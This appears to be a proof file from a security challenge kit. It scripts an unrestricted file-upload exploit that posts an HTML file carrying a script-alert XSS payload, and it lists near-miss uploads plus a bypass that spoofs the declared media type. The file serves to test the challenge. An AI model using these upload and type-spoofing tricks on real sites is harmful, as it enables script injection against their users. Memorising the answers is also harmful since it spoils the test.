import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const PDF = '%PDF-1.7\n%%EOF'

function send(attacker: Attacker, name: string, content = '<script>alert("hello")</script>', mediaType = 'text/html') {
  const form = new FormData()
  form.append('file', new Blob([content], { type: mediaType }), name)
  return attacker.post('/file-upload', form)
}

export const proof = prove(challenge, {
  exploit: (attacker) => send(attacker, 'invoice.html'),
  nearMisses: {
    'an ordinary invoice': (attacker) => send(attacker, 'invoice.pdf', PDF, 'application/pdf'),
    'another kind of file under the name of an invoice': (attacker) => send(attacker, 'invoice.pdf'),
    'a file whose whole name is an ending that is known': (attacker) => send(attacker, '.zip'),
    'an ordinary invoice, declared as something else': (attacker) => send(attacker, 'invoice.pdf', PDF),
    'another ending in the middle of the name': (attacker) => send(attacker, 'invoice.html.PDF', PDF),
    'a document of the old interface': (attacker) => send(attacker, 'order.xml', '<order/>', 'application/xml'),
    'another kind of file in another field': (attacker) => {
      const form = new FormData()
      form.append('invoice', new Blob(['hello']), 'invoice.html')
      return attacker.post('/file-upload', form)
    },
    'another kind of file, far too large': (attacker) => send(attacker, 'invoice.html', 'a'.repeat(200_001)),
  },
  bypasses: {
    'believe-the-declared-type': (attacker) => send(attacker, 'invoice.html', 'hello', 'application/pdf'),
  },
})
